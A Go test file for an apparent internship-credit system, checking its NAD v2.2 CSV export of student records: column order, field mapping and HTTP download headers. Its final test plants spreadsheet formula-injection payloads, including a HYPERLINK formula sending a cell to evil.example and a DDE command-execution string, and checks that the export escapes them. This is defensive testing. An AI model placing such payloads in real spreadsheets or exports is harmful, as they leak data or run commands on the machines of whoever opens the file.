package reports_test

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/pocketbase/dbx"

	"github.com/internbase/internbase/internal/apptest"
	"github.com/internbase/internbase/internal/clock"
	"github.com/internbase/internbase/internal/reports"
)

// nadGuidelinePrefix is the header order the NAD v2.2 guidelines list, up
// to where the copy read stops (see reports.NADTemplate).
var nadGuidelinePrefix = []string{
	"ORG_CODE", "ORG_NAME", "ORG_NAME_L", "ORG_ADDRESS", "ORG_CITY", "ORG_STATE", "ORG_PIN",
	"ACADEMIC_COURSE_ID", "COURSE_NAME", "COURSE_NAME_L", "STREAM", "STREAM_L", "STREAM_SECOND", "STREAM_SECOND_L",
	"SESSION", "REGN_NO", "RROLL", "AADHAAR_NO", "LOCKER_ID",
}

const nadHeader = "ORG_CODE,ORG_NAME,ORG_NAME_L,ORG_ADDRESS,ORG_CITY,ORG_STATE,ORG_PIN,ACADEMIC_COURSE_ID,COURSE_NAME," +
	"COURSE_NAME_L,STREAM,STREAM_L,STREAM_SECOND,STREAM_SECOND_L,SESSION,REGN_NO,RROLL,AADHAAR_NO,LOCKER_ID," +
	"CNAME,GENDER,DOB,FNAME,MNAME,PHOTO,MRKS_REC_STATUS,RESULT,YEAR,MONTH,DIVISION,GRADE,PERCENT,DOR,DOI,CERT_NO,SEM," +
	"EXAM_TYPE,TOT_CREDIT,ABC_ACCOUNT_ID,SUB1NM,SUB1,SUB1MAX,SUB1_TOT,SUB1_GRADE,SUB1_GRADE_POINTS,SUB1_CREDIT,SUB1_REMARKS"

func TestNADColumns(t *testing.T) {
	t.Parallel()
	if got := strings.Join(reports.NADColumns, ","); got != nadHeader {
		t.Errorf("NAD header\n got %s\nwant %s", got, nadHeader)
	}
	if !reflect.DeepEqual(reports.NADColumns[:len(nadGuidelinePrefix)], nadGuidelinePrefix) {
		t.Errorf("the columns the guidelines list are not first and in order: %v", reports.NADColumns)
	}
	seen := map[string]bool{}
	for _, c := range reports.NADColumns {
		if seen[c] {
			t.Errorf("column %s repeated", c)
		}
		seen[c] = true
	}
	if !strings.Contains(reports.NADTemplate, "2.2") {
		t.Errorf("NADTemplate %q names no version", reports.NADTemplate)
	}
}

// TestNADRecordMapping: each field of a report row lands in its NAD column,
// and every other column is empty.
func TestNADRecordMapping(t *testing.T) {
	t.Parallel()
	row := reports.CreditRow{RegisterNo: "MCP-001", ApaarID: "123456789012", StudentName: "Anjali Menon",
		Program: "BSc Physics", Semester: 6, Internship: "Backend intern", Organization: "Acme Labs", Hours: 62,
		Credits: 2, Marks: 38.5, MaxMarks: 50, Grade: "A", GradePoint: 8, CertificateNumber: "IB-2026-00000001",
		CompletedOn: "2026-06-15"}
	tests := []struct{ column, want string }{
		{"ORG_NAME", "Mar Chrysostom College"},
		{"COURSE_NAME", "BSc Physics"},
		{"REGN_NO", "MCP-001"},
		{"CNAME", "Anjali Menon"},
		{"DOR", "2026-06-15"},
		{"CERT_NO", "IB-2026-00000001"},
		{"SEM", "6"},
		{"ABC_ACCOUNT_ID", "123456789012"},
		{"SUB1NM", "Backend intern"},
		{"SUB1MAX", "50"},
		{"SUB1_TOT", "38.5"},
		{"SUB1_GRADE", "A"},
		{"SUB1_GRADE_POINTS", "8"},
		{"SUB1_CREDIT", "2"},
	}
	cells := row.NADRecord("Mar Chrysostom College", nil)
	if len(cells) != len(reports.NADColumns) {
		t.Fatalf("%d cells for %d columns", len(cells), len(reports.NADColumns))
	}
	filled := map[string]string{}
	for i, c := range reports.NADColumns {
		filled[c] = cells[i]
	}
	for _, tt := range tests {
		t.Run(tt.column, func(t *testing.T) {
			if got := filled[tt.column]; got != tt.want {
				t.Errorf("%s = %q, want %q", tt.column, got, tt.want)
			}
			delete(filled, tt.column)
		})
	}
	for c, v := range filled {
		if v != "" {
			t.Errorf("%s = %q: Internbase has no data for it, so it stays empty", c, v)
		}
	}
	// The buffer is reused: a second row leaves nothing of the first.
	again := (&reports.CreditRow{}).NADRecord("", cells)
	for i, v := range again {
		if v != "" && v != "0" {
			t.Errorf("reused buffer keeps %s = %q", reports.NADColumns[i], v)
		}
	}
}

func TestCreditsNAD(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	_, err := w.App.DB().Update("users", dbx.Params{"apaar_id": "123456789012", "program": "BSc Physics", "semester": 6},
		dbx.HashExp{"id": w.S1.Id}).Execute()
	apptest.Must(t, err)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)

	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=nad"), w.CoordA.Token, nil)
	if res.Status != http.StatusOK {
		t.Fatalf("status %d: %s", res.Status, res)
	}
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	wantName := fmt.Sprintf(`attachment; filename="credits-%s-%s-nad.csv"`, w.InstA.GetString("code"), clock.Today(w.App).Format("2006-01-02"))
	if cd := res.Header.Get("Content-Disposition"); cd != wantName {
		t.Errorf("Content-Disposition %q, want %q", cd, wantName)
	}
	if first := strings.SplitN(res.String(), "\n", 2)[0]; first != nadHeader {
		t.Errorf("header row\n got %s\nwant %s", first, nadHeader)
	}
	recs := parseCSV(t, res.String())
	if len(recs) != 2 {
		t.Fatalf("%d records, want header + 1:\n%s", len(recs), res)
	}
	want := (&reports.CreditRow{RegisterNo: w.S1.GetString("register_no"), ApaarID: "123456789012",
		StudentName: w.S1.GetString("name"), Program: "BSc Physics", Semester: 6, Internship: "Backend intern",
		Credits: 2, Marks: 38.5, MaxMarks: 50, Grade: "A", GradePoint: 8,
		CertificateNumber: w.Certificate.GetString("number"), CompletedOn: "2026-06-15"}).NADRecord(w.InstA.GetString("name"), nil)
	if !reflect.DeepEqual(recs[1], want) {
		t.Errorf("row\n got %q\nwant %q", recs[1], want)
	}

	// WriteCredits (the export command's path) writes the same file.
	var buf bytes.Buffer
	n, err := reports.WriteCredits(context.Background(), w.App, &buf,
		reports.CreditsOptions{Institution: w.InstA.Id, Format: reports.FormatNAD}, nil)
	if err != nil || n != 1 || buf.String() != res.String() {
		t.Errorf("WriteCredits: %d rows, %v:\n%s\nwant\n%s", n, err, buf.String(), res)
	}
}

func TestCreditsNADFormulaInjection(t *testing.T) {
	t.Parallel()
	w, c := setup(t)
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	_, err := w.App.DB().Update("users", dbx.Params{"name": evil, "program": "+SUM(1,2)", "register_no": "-2+3", "apaar_id": ""},
		dbx.HashExp{"id": w.S1.Id}).Execute()
	apptest.Must(t, err)
	_, err = w.App.DB().Update("internships", dbx.Params{"title": "@cmd|' /C calc'!A0"}, dbx.HashExp{"id": w.Internship.Id}).Execute()
	apptest.Must(t, err)
	_, err = w.App.DB().Update("institutions", dbx.Params{"name": "=1+1 College"}, dbx.HashExp{"id": w.InstA.Id}).Execute()
	apptest.Must(t, err)
	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)

	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id, "format=nad"), w.CoordA.Token, nil)
	recs := parseCSV(t, res.String())
	if len(recs) != 2 {
		t.Fatalf("records: %v", recs)
	}
	cell := map[string]string{}
	for i, col := range recs[0] {
		cell[col] = recs[1][i]
	}
	for col, want := range map[string]string{"CNAME": "'" + evil, "COURSE_NAME": "'+SUM(1,2)", "REGN_NO": "'-2+3",
		"SUB1NM": "'@cmd|' /C calc'!A0", "ORG_NAME": "'=1+1 College", "SUB1_TOT": "38.5"} {
		if cell[col] != want {
			t.Errorf("%s = %q, want %q", col, cell[col], want)
		}
	}
}
